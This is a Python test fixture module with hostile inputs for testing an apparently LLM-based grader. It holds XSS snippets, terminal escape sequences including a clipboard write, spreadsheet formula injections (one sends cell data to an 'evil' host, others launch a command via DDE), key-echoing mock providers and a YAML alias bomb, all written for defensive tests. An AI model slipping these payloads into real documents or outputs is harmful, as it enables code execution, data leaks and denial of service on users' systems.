"""Hostile inputs shared by the tests and ``benchmarks/reliability.py``: text that tries to act where
it lands (HTML, Markdown, terminal escapes, spreadsheet formulas), a provider that echoes the
caller's key, a YAML alias bomb, and a way to measure a command's peak memory."""

from __future__ import annotations

import subprocess
import sys
from pathlib import Path

from tests.llm_server import ECHO_AUTHORIZATION, Reply, verdict_for

ROOT = Path(__file__).resolve().parents[1]

HOSTILE_HTML = ("<img src=x onerror=alert(1)> <script>alert(2)</script> [click me](javascript:alert(3)) "
                "<a href='javascript:alert(4)'>x</a> &#x3C;script&#x3E; ![i](http://evil/x.png)")
HOSTILE_BLOCK = f"# pwned heading\n{HOSTILE_HTML}\n> quoted\n---\n    indented code\n1. list\n| a | b |"
#: Clear screen, window title, clipboard write (OSC 52), colours, an 8-bit CSI, a bell.
ESCAPES = ("\x1b[2J\x1b[H clear \x1b]0;pwned title\x07 title \x1b]52;c;cHduZWQ=\x07 clipboard "
           "\x1b[31mred\x1b[0m \x9b31m c1 \x07 bell")
FORMULAS = ('=HYPERLINK("http://evil/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0")

#: A key with no recognisable shape: only knowing its value can catch it.
SECRET = "kq7Zp2Lm9Xv4Rt8Wn3Yb6Hc1"
#: A key-shaped token the process does not know.
OTHER_KEY = "sk-live-abcdefghijklmnopqrstu"


def echo_key_error(body: dict) -> Reply:
    """A provider whose error message repeats the caller's Authorization header and key."""
    return Reply.error(401, f"Invalid credentials. You sent Authorization: {ECHO_AUTHORIZATION} (api_key={SECRET})")


def echo_key_feedback(body: dict) -> Reply:
    """A reply (a proxy's debug output, say) that repeats the header and another key."""
    return Reply.json(verdict_for(body, "full", holistic=9,
                                  feedback=f"Debug: header {ECHO_AUTHORIZATION}, backup key {OTHER_KEY}."))


def hostile_feedback(body: dict) -> Reply:
    """Model text carrying HTML, Markdown structure, terminal escapes and formulas."""
    out = verdict_for(body, "full", holistic=9, feedback=f"{FORMULAS[1]}\n{HOSTILE_BLOCK}\n{ESCAPES}")
    for kp in out["key_points"]:
        kp["rationale"] = f"{FORMULAS[3]} {HOSTILE_HTML} {ESCAPES}"
    out["manipulation"] = f"{HOSTILE_HTML} {ESCAPES}"
    return Reply.json(out)


def alias_bomb(levels: int = 9, width: int = 9) -> str:
    """The 'billion laughs' in YAML: ~300 bytes that expand to width**levels values."""
    names = "abcdefghijklmnop"
    lines = [f"{names[0]}: &{names[0]} [{','.join(['lol'] * width)}]"]
    for i in range(1, levels):
        lines.append(f"{names[i]}: &{names[i]} [{','.join(['*' + names[i - 1]] * width)}]")
    lines.append(f"questions: [*{names[levels - 1]}]")
    return "\n".join(lines) + "\n"


#: Runs a command and prints its exit status and peak RSS. A small process of its own, because a
#: child forked from a big one (pytest) would count the parent's memory, resident until exec.
_MEASURE = """
import os, subprocess, sys
p = subprocess.Popen(sys.argv[1:], stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
err = p.stderr.read()
_, status, usage = os.wait4(p.pid, 0)
sys.stderr.buffer.write(err)
print(os.waitstatus_to_exitcode(status), usage.ru_maxrss)
"""


def peak_rss_mib(cmd: list[str], env: dict, timeout: float = 110) -> tuple[int, str, float]:
    """(exit status, stderr, peak resident memory in MiB) of ``cmd``."""
    proc = subprocess.run([sys.executable, "-c", _MEASURE, *cmd], cwd=ROOT, env=env, capture_output=True, text=True,
                          timeout=timeout)
    code, kib = proc.stdout.split()
    return int(code), proc.stderr, int(kib) / 1024
